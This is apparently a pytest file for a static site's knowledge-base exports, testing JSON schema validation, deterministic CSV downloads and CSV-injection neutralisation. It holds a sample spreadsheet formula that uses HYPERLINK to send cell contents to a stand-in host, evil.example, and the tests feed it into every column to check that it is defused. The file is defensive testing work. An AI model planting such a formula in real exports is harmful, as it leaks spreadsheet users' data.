"""Downloads and published schemas: complete, round-tripping, deterministic, and on the built site."""
from __future__ import annotations

import copy
import csv
import io
import json
import re
from dataclasses import astuple, fields, replace
from pathlib import Path

import pytest

from gpia import sitemap
from gpia.model import checklist
from gpia.pages import checklist as pages_checklist
from gpia.pages.build_views import build_views
from gpia.pages.download_schema import DOWNLOAD_SCHEMA_PATH
from gpia.pages.export import (FORMULA_START, RECORD_KINDS, csv_files, csv_text, download_files, kept_as_text,
                               knowledge_base_json, published_schemas, record_dicts, spreadsheet_safe)
from gpia.load.layout import SCHEMA_DIR
from gpia.knowledge_base import load_knowledge_base
from gpia.model.records import KnowledgeBase

from conftest import ROOT, SOURCES, visible

FIXED_TAIL = ["provenance", "references", "referenced_by", "last_reviewed"]


def read_csv(text: str) -> list[list[str]]:
    """A CSV download's rows; it must start with a byte-order mark (for Excel)."""
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def dict_rows(text: str) -> list[dict[str, str]]:
    header, *rows = read_csv(text)
    return [dict(zip(header, row)) for row in rows]


@pytest.fixture(scope="module")
def kb() -> KnowledgeBase:
    result = load_knowledge_base(ROOT, SOURCES)
    assert result.knowledge_base is not None, result.problems
    return result.knowledge_base


@pytest.fixture(scope="module")
def document(kb: KnowledgeBase) -> dict:
    return json.loads(knowledge_base_json(kb))


def test_json_round_trips(kb: KnowledgeBase, document: dict) -> None:
    assert json.dumps(document, ensure_ascii=False, indent=2) + "\n" == knowledge_base_json(kb)


def test_json_holds_all_57_requirements_and_9_faqs(kb: KnowledgeBase, document: dict) -> None:
    ids = {kind: [r["id"] for r in document["records"] if r["kind"] == kind] for kind, _ in RECORD_KINDS}
    assert len(ids["requirement"]) == 57 and ids["requirement"] == list(kb.requirements)
    assert len(ids["question"]) == 9 and ids["question"] == list(kb.questions)
    assert document["counts"] == {kind: len(getattr(kb, attribute)) for kind, attribute in RECORD_KINDS}
    assert len(document["records"]) == sum(document["counts"].values())


def test_every_record_has_id_kind_provenance_references_and_review_date(document: dict) -> None:
    for record in document["records"]:
        keys = list(record)
        assert keys[:2] == ["id", "kind"] and keys[-4:] == FIXED_TAIL, record["id"]
        assert list(record["provenance"]) == ["file", "source", "section", "row"]
        assert re.fullmatch(r"(clauses|faq)/[a-z0-9/-]+\.yaml", record["provenance"]["file"]), record["id"]
        if record["kind"] not in ("table", "faq-section"):
            assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", record["last_reviewed"]), record["id"]


def test_requirement_record_in_full(document: dict) -> None:
    record = next(r for r in document["records"] if r["id"] == "icp-2019-int-stratification")
    assert record["text"] == ("Apply stratification approaches at practice level [specific requirements set out in "
                              "relevant schedule]")
    assert record["defers_to"] == [{"schedule": "schedule-stratification",
                                    "placeholder": "[specific requirements set out in relevant schedule]"}]
    assert record["provenance"] == {"file": "clauses/requirements/icp-2019-integration.yaml", "source": "icp-2019-faqs",
                                    "section": "How can the GP IA capture integration commitments?", "row": "2."}
    assert "schedule-stratification" in record["references"]
    assert record["derives_from"] and record["change_shown"] in ("unchanged", "reworded", "moved", "merged", "split")
    ancestor = next(r for r in document["records"] if r["id"] == record["derives_from"][0])
    assert record["id"] in ancestor["derived_into"]


def test_nested_records_are_named_by_id_not_copied(document: dict) -> None:
    area = next(r for r in document["records"] if r["id"] == "icp-2019-int-identification")
    assert "icp-2019-int-stratification" in area["requirements"]
    section = next(r for r in document["records"] if r["kind"] == "faq-section" and r["id"] == "faq-section-introduction")
    assert section["questions"] == ["faq-purpose-of-gp-ia", "faq-who-is-gp-ia-for"]


def test_one_csv_per_kind_with_the_json_columns(kb: KnowledgeBase, document: dict) -> None:
    files = csv_files(kb)
    kinds = {f"data/{kind}.csv" for kind, _ in RECORD_KINDS}
    assert kinds <= set(files)
    for name in set(files) - kinds:  # a list of structures: a CSV of its own, named by its kind and field
        assert any(name.startswith(f"data/{kind}-") for kind, _ in RECORD_KINDS), name
    for kind, attribute in RECORD_KINDS:
        rows = read_csv(files[f"data/{kind}.csv"])
        first = next(r for r in document["records"] if r["kind"] == kind)
        assert rows[0][:2] == ["id", "kind"], kind
        for key in first:
            if key == "provenance":
                assert [f"provenance_{k}" for k in first[key]] == [c for c in rows[0] if c.startswith("provenance_")]
            elif isinstance(first[key], (str, int, bool)) or first[key] is None:
                assert key in rows[0], (kind, key)
        assert len(rows) == 1 + len(getattr(kb, attribute)), kind


def test_no_csv_cell_holds_json(kb: KnowledgeBase) -> None:
    """Structures are spread over columns, or rows of a CSV of their own that name their record."""
    files = csv_files(kb)
    for name, content in files.items():
        for row in read_csv(content):
            for cell in row:
                assert not re.match(r"\s*[\[{]\s*[\"\[{]", cell), (name, cell[:80])
    fields = dict_rows(files["data/schedule-fields.csv"])
    schedule = kb.schedules["schedule-3-clinical-hub"]
    mine = [row for row in fields if row["schedule_id"] == schedule.id]
    assert [row["id"] for row in mine] == [f.id for f in schedule.fields]
    assert [row["fields_position"] for row in mine] == [str(n) for n in range(1, len(schedule.fields) + 1)]
    change = next(row for row in dict_rows(files["data/change.csv"]) if row["find_clause_renumbered"])
    assert change["find_clause_renumbered"] in ("true", "false")
    defers = dict_rows(files["data/requirement-defers_to.csv"])
    assert {"requirement_id": "icp-2019-int-stratification", "defers_to_position": "1",
            "schedule": "schedule-stratification",
            "placeholder": "[specific requirements set out in relevant schedule]"} in defers


def test_csv_headers_and_cells(kb: KnowledgeBase) -> None:
    files = csv_files(kb)
    assert files["data/citation.csv"].splitlines()[0] == (
        '\ufeff"id","kind","title","publisher","published","url","provenance_file","provenance_source",'
        '"provenance_section","provenance_row","references","referenced_by","last_reviewed"')
    question = next(row for row in dict_rows(files["data/question.csv"]) if row["id"] == "faq-purpose-of-gp-ia")
    assert question["question"] == "What is the purpose of a GP Integration Agreement?"
    assert question["relates_to"].split("\n")[:2] == ["gp-ia", "icp-contract"]  # one id per line in the cell
    answer = [row for row in dict_rows(files["data/question-answer.csv"]) if row["question_id"] == "faq-purpose-of-gp-ia"]
    assert answer[0]["answer_position"] == "1" and answer[0]["kind"] == "paragraph"  # a list of blocks: rows
    assert question["provenance_section"] == "1. Introduction to the GP Integration Agreement"
    # A row label or date that a spreadsheet would turn into a number is written so it stays text.
    area = next(row for row in dict_rows(files["data/area.csv"]) if row["id"] == "icp-2019-int-identification")
    assert area["row"] == '="2."' and area["last_reviewed"].startswith('="20')


def test_downloads_are_deterministic(kb: KnowledgeBase) -> None:
    again = load_knowledge_base(ROOT, SOURCES).knowledge_base
    assert again is not None
    assert download_files(kb) == download_files(kb) == download_files(again)


def test_schemas_are_published_byte_for_byte() -> None:
    schemas = published_schemas()
    assert sorted(schemas) == sorted([*(f"schema/{p.name}" for p in SCHEMA_DIR.glob("*.json")), DOWNLOAD_SCHEMA_PATH])
    for uri, content in schemas.items():
        if uri == DOWNLOAD_SCHEMA_PATH:
            continue
        assert content == (SCHEMA_DIR / uri.removeprefix("schema/")).read_bytes()


def test_downloads_and_schemas_are_on_the_built_site(built_site: Path, kb: KnowledgeBase) -> None:
    for uri, content in download_files(kb).items():
        assert (built_site / uri).read_bytes() == content.encode("utf-8"), uri  # CSV lines end CRLF
    for uri, content in published_schemas().items():
        assert (built_site / uri).read_bytes() == content, uri


def test_data_page_links_every_download_with_its_count(built_site: Path, kb: KnowledgeBase) -> None:
    markup = (built_site / "data" / "index.html").read_text(encoding="utf-8")
    row = re.search(r'<tr>\s*<td><a href="requirement.csv">requirement.csv</a></td>(.*?)</tr>', markup, re.S)
    assert row and re.findall(r"<td[^>]*>(.*?)</td>", row.group(1))[1] == "57"
    row = re.search(r'<tr>\s*<td><a href="knowledge-base.json">knowledge-base.json</a></td>(.*?)</tr>', markup, re.S)
    total = sum(len(getattr(kb, attribute)) for _, attribute in RECORD_KINDS)
    assert row and re.findall(r"<td[^>]*>(.*?)</td>", row.group(1))[1] == str(total)
    for kind, _ in RECORD_KINDS:
        assert f'href="{kind}.csv"' in markup, kind
    assert 'href="../schema/schedule.json"' in markup
    assert "Open Government Licence v3.0" in markup and "CC BY 4.0" in markup
    assert "NHS England and NHS Improvement" in markup  # publishers come from the data
    # Readers are told why a CSV cell may start with an apostrophe, and that the JSON is unchanged.
    text = visible(markup)
    assert ("a cell that starts with one of those characters (also after spaces, line breaks or quotation marks) "
            "has an apostrophe (') added in front") in text
    assert "the JSON file always holds the text exactly as written" in text


# CSV injection: a cell that begins with one of these is run as a formula by a spreadsheet.
FORMULA = 'HYPERLINK("https://evil.example/?d="&A1,"Open")'


def test_the_formula_characters_are_owasps() -> None:
    assert FORMULA_START == ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text, cell", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tanything", "'\tanything"), ("\ranything", "'\ranything"),
    # After leading spaces, line breaks or quotes, which a spreadsheet may trim.
    ("  =1+2", "'  =1+2"), ("\n-1", "'\n-1"), ('"=1+2', '\'"=1+2'), ("'=1+2", "''=1+2"), ("\"' @x", "'\"' @x"),
    # Left alone: formula characters later in the text, and leading quotes before ordinary text.
    ("", ""), ("plain", "plain"), ("a=b", "a=b"), ("1-2", "1-2"), ("x\n=1", "x\n=1"), ("\nx", "\nx"),
    ("'best for service'", "'best for service'"), (" ok", " ok"),
])
def test_spreadsheet_safe(text: str, cell: str) -> None:
    assert spreadsheet_safe(text) == cell


def test_csv_quotes_every_cell_so_no_separator_starts_a_cell() -> None:
    # Opened in a spreadsheet that splits on ";" the quoted cell stays one cell.
    assert csv_text(["a", "b"], [["x;=1+2", 'say "hi"'], [3, "-2"]]) == (
        '\ufeff"a","b"\r\n"x;=1+2","say ""hi"""\r\n"3","\'-2"\r\n')


@pytest.mark.parametrize("text, cell", [
    ("1.", '="1."'), ("6.10", '="6.10"'), ("4.1", '="4.1"'), ("1.2.3.", '="1.2.3."'), ("007", '="007"'),
    ("2019-08-01", '="2019-08-01"'),
    # Left as they are: a plain integer is the same number in a spreadsheet; anything else is text.
    ("3", "3"), ("0", "0"), ("4.1(b)", "4.1(b)"), ("1. Shared vision", "1. Shared vision"), ("2019-08-01x", "2019-08-01x"),
    ("1.\n", "1.\n"), ("-1.", "'-1."), ("=1.", "'=1."),
])
def test_cells_a_spreadsheet_would_convert_are_kept_as_text(text: str, cell: str) -> None:
    assert read_csv(csv_text(["a"], [[text]]))[1] == [cell]
    assert kept_as_text(text) in (text, f'="{text}"')


def hostile(value: object, text: str) -> object:
    """`text` in the shape of the value it replaces: a list of texts stays a list (one per line in a cell)."""
    return [text, "second"] if isinstance(value, list) and all(isinstance(v, str) for v in value) else text


@pytest.mark.parametrize("start", FORMULA_START, ids=repr)
def test_every_csv_column_of_every_kind_neutralises_a_formula_and_json_keeps_it(kb: KnowledgeBase, start: str) -> None:
    """Each column of each CSV in turn holds a formula: the cell gets a quote in front, nothing else
    changes, and the JSON keeps the text as written."""
    text = start + FORMULA
    items = record_dicts(kb)
    checked = 0
    for kind, _ in RECORD_KINDS:
        first = next(item for item in items if item["kind"] == kind)
        header = read_csv(csv_files(kb, [first])[f"data/{kind}.csv"])[0]
        for column in header:
            item = copy.deepcopy(first)
            holder, key = _place(item, column)
            holder[key] = value = hostile(holder[key], text)
            content = csv_files(kb, [item])[f"data/{item['kind']}.csv"]
            (row,) = dict_rows(content)
            expected = "'" + text + ("\nsecond" if isinstance(value, list) else "")
            assert row[column] == expected, (kind, column)
            if column != "kind":  # the JSON counts records by kind, which is the export's own word
                (record,) = json.loads(knowledge_base_json(kb, [item]))["records"]
                assert _place(record, column)[0][key] == value
            checked += 1
    assert checked >= 13 * 10  # every kind, with all of its columns (`kind` and `id` included)


def _place(item: dict, column: str) -> tuple[dict, str]:
    """The mapping and key a CSV column comes from: a top-level key, or a structure's field spread
    over columns (provenance_file, find_before, ...)."""
    if column in item:
        return item, column
    for key, value in item.items():
        if isinstance(value, dict) and column.startswith(key + "_"):
            return _place(value, column.removeprefix(key + "_"))
    raise KeyError(column)


@pytest.mark.parametrize("start", FORMULA_START, ids=repr)
def test_every_checklist_column_neutralises_a_formula(kb: KnowledgeBase, start: str,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    text = start + FORMULA
    (first, *_) = checklist.checklist_rows(kb)
    header = [f.name for f in fields(first)]
    for column in header:
        row = replace(first, **{column: text})
        monkeypatch.setattr(pages_checklist, "checklist_rows", lambda _kb, row=row: [row])
        parsed = read_csv(pages_checklist.checklist_csv(kb))
        assert parsed[0] == header
        assert parsed[1] == ["'" + text if name == column else kept_as_text(str(v))
                             for name, v in zip(header, astuple(first))]


def test_real_data_needs_no_quote_added(kb: KnowledgeBase) -> None:
    """No text of today's data begins like a formula, so the CSV cells are the data as written."""
    for name, content in [*csv_files(kb).items(), (sitemap.CHECKLIST_CSV, pages_checklist.checklist_csv(kb))]:
        for row in read_csv(content):
            for cell in row:
                assert not (cell.startswith("'") and spreadsheet_safe(cell[1:]) != cell[1:]), (name, cell)


def test_the_json_says_what_it_is_and_validates_against_its_published_schema(
        kb: KnowledgeBase, monkeypatch: pytest.MonkeyPatch) -> None:
    import jsonschema

    from gpia.pages.download_schema import download_schema

    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1764028800")
    document = json.loads(knowledge_base_json(kb, site_url="https://example.org/guide/"))
    assert document["$schema"] == "https://example.org/guide/schema/download/knowledge-base.json"
    assert document["title"] == "GP Integration Agreement guide: knowledge base"
    assert document["version"] == "2025-11-25T00:00:00Z"  # the build's commit time
    assert document["site"] == "https://example.org/guide/"
    assert document["licence"]["nhs_wording"]["name"] == "Open Government Licence v3.0"
    assert document["licence"]["our_words"]["name"].endswith("(CC BY 4.0)")
    schema = json.loads(published_schemas()[DOWNLOAD_SCHEMA_PATH])
    assert schema == download_schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    validator = jsonschema.Draft202012Validator(schema)
    assert [e.message for e in validator.iter_errors(document)] == []
    # The two fields the YAML schemas describe otherwise are the download's own, as exported.
    change = next(r for r in document["records"] if r["kind"] == "change")
    assert change["find"]["clause_renumbered"] is False
    source = next(r for r in document["records"] if r["kind"] == "source")
    assert "reference" not in source and source["reference_label"] and source["reference_value"]
    # Without a site address the schema is found relative to the file; without a commit time the
    # version is the latest review date.
    monkeypatch.delenv("SOURCE_DATE_EPOCH")
    local = json.loads(knowledge_base_json(kb))
    assert local["$schema"] == "../schema/download/knowledge-base.json" and local["site"] is None
    assert local["version"] == max(r["last_reviewed"] for r in local["records"] if r["last_reviewed"])


@pytest.mark.parametrize("change, message", [
    (lambda r: r.update(extra=1), "Additional properties are not allowed ('extra' was unexpected)"),
    (lambda r: r.update(kind="nonsense"), "'nonsense' is not one of"),
    (lambda r: r["find"].update(clause_renumbered="no"), "'no' is not of type 'boolean'"),
    (lambda r: r.pop("provenance"), "'provenance' is a required property"),
    (lambda r: r.update(references=[1]), "1 is not of type 'string'"),
])
def test_the_download_schema_catches_a_record_that_differs(kb: KnowledgeBase, change, message: str) -> None:
    import jsonschema

    from gpia.pages.download_schema import download_schema

    document = json.loads(knowledge_base_json(kb))
    record = next(r for r in document["records"] if r["kind"] == "change")
    change(record)
    errors = [e.message for e in jsonschema.Draft202012Validator(download_schema()).iter_errors(document)]
    assert any(message in e for e in errors), errors


def test_the_checklists_links_start_with_the_sites_address(kb: KnowledgeBase) -> None:
    site = "https://example.org/guide/"
    views = build_views(kb, site_url="https://example.org/guide")  # the trailing '/' is added
    assert views.site_url == site
    relative, absolute = read_csv(pages_checklist.checklist_csv(kb)), read_csv(pages_checklist.checklist_csv(kb, site))
    links = [relative[0].index(c) for c in ("requirement_link", "template_link", "example_link")]
    assert any(relative[1][i] for i in links)
    for before, after in zip(relative[1:], absolute[1:]):
        assert [after[i] for i in links] == [site + before[i] if before[i] else "" for i in links]
    decisions = read_csv(pages_checklist.decisions_csv(kb, site_url=site))
    assert all(row[-1].startswith(site) for row in decisions[1:])


@pytest.mark.parametrize("value", ["example.org/guide/", "ftp://example.org/", 3])
def test_a_site_url_that_is_not_an_address_is_a_config_error(kb: KnowledgeBase, value: object) -> None:
    with pytest.raises(ValueError, match=r"site_url \(in mkdocs.yml, or GPIA_SITE_URL\) must be the site's address"):
        build_views(kb, site_url=value)  # type: ignore[arg-type]
